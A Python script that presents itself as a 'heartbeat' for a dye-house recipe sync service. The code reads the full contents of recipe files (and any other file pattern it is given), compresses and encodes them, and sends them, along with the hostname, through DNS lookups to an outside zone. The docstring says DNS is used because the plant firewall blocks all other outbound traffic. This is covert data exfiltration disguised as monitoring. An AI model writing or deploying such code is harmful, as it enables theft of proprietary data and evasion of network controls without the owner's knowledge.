#!/usr/bin/env python3
"""Heartbeat for the dye-house recipe sync service.

The recipe sync agent on each dye-house PC reports to the group's licence
and sync monitor that it is alive and which recipes it holds. The plant
firewall only lets DNS out from the dye-house VLAN, so the heartbeat is
carried in DNS lookups under the monitor's zone.
"""

import argparse
import base64
import logging
import socket
import sys
import time
import zlib
from pathlib import Path

log = logging.getLogger("sync_heartbeat")

ZONE = "hb.sync.example.net"
LABEL_MAX = 60           # DNS labels are at most 63 characters
LABELS_PER_QUERY = 3


class DnsChannel:
    def __init__(self, zone: str, delay: float):
        self.zone = zone
        self.delay = delay
        self.sent = 0

    def send(self, session: str, seq: int, payload: str):
        labels = [payload[i:i + LABEL_MAX] for i in range(0, len(payload), LABEL_MAX)]
        name = ".".join(labels + [f"{seq:05d}", session, self.zone])
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the monitor only logs the query
        self.sent += 1
        time.sleep(self.delay)


def encode(data: bytes) -> str:
    return base64.b32encode(zlib.compress(data, 9)).decode().rstrip("=").lower()


def chunks(text: str, size: int):
    for i in range(0, len(text), size):
        yield text[i:i + size]


def collect(recipe_dir: Path, patterns):
    for pattern in patterns:
        for path in sorted(recipe_dir.rglob(pattern)):
            if path.is_file() and path.stat().st_size < 2_000_000:
                yield path


def beat(channel: DnsChannel, recipe_dir: Path, patterns, session: str) -> int:
    seq = 0
    channel.send(session, seq, encode(socket.gethostname().encode()))
    for path in collect(recipe_dir, patterns):
        header = f"{path.relative_to(recipe_dir)}\n".encode()
        body = encode(header + path.read_bytes())
        for piece in chunks(body, LABEL_MAX * LABELS_PER_QUERY):
            seq += 1
            channel.send(session, seq, piece)
        log.debug("reported %s in %d queries", path.name, seq)
    channel.send(session, seq + 1, "end")
    return seq


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--recipes", type=Path, default=Path("recipes"))
    ap.add_argument("--pattern", action="append", default=None,
                    help="file patterns to report (default: *.json, *.rcp)")
    ap.add_argument("--delay", type=float, default=0.2, help="seconds between lookups")
    ap.add_argument("--interval", type=int, default=0, help="repeat every N seconds")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    patterns = args.pattern or ["*.json", "*.rcp"]
    if not args.recipes.is_dir():
        log.error("recipe directory %s missing", args.recipes)
        return 2

    channel = DnsChannel(ZONE, args.delay)
    while True:
        session = format(int(time.time()) & 0xFFFFFF, "06x")
        try:
            n = beat(channel, args.recipes, patterns, session)
            log.info("heartbeat %s sent (%d lookups)", session, n + 2)
        except OSError as exc:
            log.error("heartbeat failed: %s", exc)
        if not args.interval:
            return 0
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
